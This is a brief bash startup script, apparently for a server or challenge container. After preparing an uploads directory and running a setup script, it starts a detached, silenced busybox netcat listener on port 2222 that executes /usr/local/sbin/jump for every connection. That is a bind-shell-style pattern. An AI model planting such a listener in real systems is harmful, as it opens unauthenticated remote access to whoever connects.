#!/bin/bash
set -euo pipefail

mkdir -p /srv/uploads
/srv/upload/run.sh >/dev/null
setsid busybox nc -ll -p 2222 -e /usr/local/sbin/jump </dev/null >/dev/null 2>&1 &
